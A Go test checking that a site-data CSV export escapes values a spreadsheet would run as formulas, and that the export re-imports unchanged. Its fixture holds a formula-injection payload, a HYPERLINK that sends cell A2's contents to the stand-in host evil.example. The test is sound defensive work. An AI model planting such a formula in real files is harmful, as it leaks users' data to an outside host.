package assess_test

import (
	"bytes"
	"strings"
	"testing"

	"chuangwen/internal/assess"
	"chuangwen/internal/store"
	"chuangwen/internal/testcity"
)

// A site's text that a spreadsheet would read as a formula leaves the CSV
// export quoted, and the export imports back unchanged.
func TestSitesCSVExportIsNoFormula(t *testing.T) {
	testcity.Both(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		f.importTree(testTree)
		const evil = `=HYPERLINK("http://evil.example/?x="&A2,"点击")`
		f.importSites("code,name,type,region,address\nS01,+河坊街,主次干道,330102001,\"" + strings.ReplaceAll(evil, `"`, `""`) + "\"\n")

		var out bytes.Buffer
		f.must(f.svc.ExportSites(f.ctx, f.c.Admin, assess.FormatCSV, &out))
		if !strings.Contains(out.String(), `,'+河坊街,`) || !strings.Contains(out.String(), `"'=HYPERLINK(""http://evil.example/`) {
			t.Fatalf("export:\n%s", out.String())
		}
		if rep := f.importSites(out.String()); rep.Updated != 1 || rep.Created != 0 {
			t.Fatalf("re-import: %+v", rep)
		}
		sites, err := f.svc.Sites(f.ctx, f.c.Admin)
		f.must(err)
		if len(sites) != 1 || sites[0].Name != "+河坊街" || sites[0].Address != evil {
			t.Fatalf("after re-import: %+v", sites)
		}
	})
}
